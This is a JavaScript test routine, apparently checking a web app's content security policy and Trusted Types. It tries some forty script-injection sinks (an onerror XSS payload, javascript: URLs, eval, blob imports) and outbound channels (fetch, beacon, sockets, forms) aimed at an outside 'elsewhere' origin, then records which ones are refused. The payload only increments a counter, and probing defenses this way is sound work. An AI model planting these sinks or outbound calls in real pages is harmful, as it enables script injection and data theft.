// What a script that got into the page would try next: each sets `ran`, or reaches the stranger, if it can.
(elsewhere) => new Promise((answer) => setTimeout(async () => {
  const code = "globalThis.ran = (globalThis.ran ?? 0) + 1"
  const markup = `<img src=x onerror="${code}">`
  const blob = (type) => URL.createObjectURL(new Blob([code], {type}))
  const put = (tag, set) => { const one = document.createElement(tag); set(one); document.body.append(one) }
  const tries = {
    eval: () => (0, eval)(code),
    function: () => new Function(code)(),
    "timer of text": () => setTimeout(code),
    innerHTML: () => { document.body.appendChild(document.createElement("div")).innerHTML = markup },
    outerHTML: () => { document.body.appendChild(document.createElement("div")).outerHTML = markup },
    insertAdjacentHTML: () => document.body.insertAdjacentHTML("beforeend", markup),
    "document.write": () => document.write(markup),
    DOMParser: () => new DOMParser().parseFromString(markup, "text/html"),
    fragment: () => document.createRange().createContextualFragment(markup),
    setHTMLUnsafe: () => document.body.appendChild(document.createElement("div")).setHTMLUnsafe(markup),
    execCommand: () => { document.designMode = "on"; try { document.execCommand("insertHTML", false, markup) } finally { document.designMode = "off" } },
    "script of text": () => put("script", (one) => { one.text = code }),
    "script of nodes": () => put("script", (one) => one.append(code)),
    "script elsewhere": () => put("script", (one) => { one.src = `${elsewhere}/script` }),
    "script of a blob": () => put("script", (one) => { one.src = blob("text/javascript") }),
    "attribute": () => put("img", (one) => { one.setAttribute("onerror", code); one.src = "/nothing" }),
    "javascript: address": () => { location.href = `javascript:${code}` },
    "javascript: link": () => put("a", (one) => { one.href = `javascript:${code}`; one.click() }),
    "javascript: frame": () => put("iframe", (one) => { one.src = `javascript:parent.ran = 1` }),
    "frame of text": () => put("iframe", (one) => { one.srcdoc = `<script>parent.ran = 1</` + `script>` }),
    "frame elsewhere": () => put("iframe", (one) => { one.src = `${elsewhere}/frame` }),
    "object elsewhere": () => put("object", (one) => { one.data = `${elsewhere}/object` }),
    "style elsewhere": () => put("link", (one) => { one.rel = "stylesheet"; one.href = `${elsewhere}/style` }),
    "style of text": () => put("style", (one) => one.append(`body { background: url(${elsewhere}/background) }`)),
    "picture elsewhere": () => put("img", (one) => { one.src = `${elsewhere}/picture` }),
    "form elsewhere": () => put("form", (one) => { one.action = `${elsewhere}/form`; one.method = "post"; one.submit() }),
    "base elsewhere": () => { put("base", (one) => { one.href = `${elsewhere}/` }); if (!document.baseURI.startsWith(elsewhere)) throw new Error("held") },
    "import of a blob": () => import(blob("text/javascript")),
    "import of data": () => import(`data:text/javascript,${code}`),
    "import elsewhere": () => import(`${elsewhere}/module`),
    "worker of a blob": () => new Worker(blob("text/javascript")),
    "worker by text": () => new Worker("/engine.js"),
    "shared worker": () => new SharedWorker(blob("text/javascript")),
    "service worker": () => navigator.serviceWorker.register("/engine.js"),
    "fetch elsewhere": () => fetch(`${elsewhere}/fetch`, {mode: "no-cors"}),
    "beacon elsewhere": () => { if (!navigator.sendBeacon(`${elsewhere}/beacon`)) throw new Error("held") },
    "socket elsewhere": () => new Promise((done, held) => { const one = new WebSocket(elsewhere.replace("http", "ws") + "/socket"); one.onopen = done; one.onerror = held }),
    "events elsewhere": () => new Promise((done, held) => { const one = new EventSource(`${elsewhere}/events`); one.onopen = done; one.onerror = () => { one.close(); held() } }),
    "a policy of one's own": () => trustedTypes.createPolicy("own", {createHTML: (text) => text}),
    "the default policy": () => trustedTypes.createPolicy("default", {createHTML: (text) => text}),
    "our policy again": () => trustedTypes.createPolicy("pratique", {createScriptURL: (text) => text}),
    "Svelte's policy again": () => trustedTypes.createPolicy("svelte-trusted-html", {createHTML: (text) => text}),
  }
  // Run by a timer: what is run for a debugger may more than a page.
  const told = {}
  for (const [name, attempt] of Object.entries(tries)) {
    try {
      await attempt()
      told[name] = "done"
    } catch {
      told[name] = "refused"
    }
  }
  await new Promise((done) => setTimeout(done, 300))
  answer({told, ran: globalThis.ran ?? 0})
}))
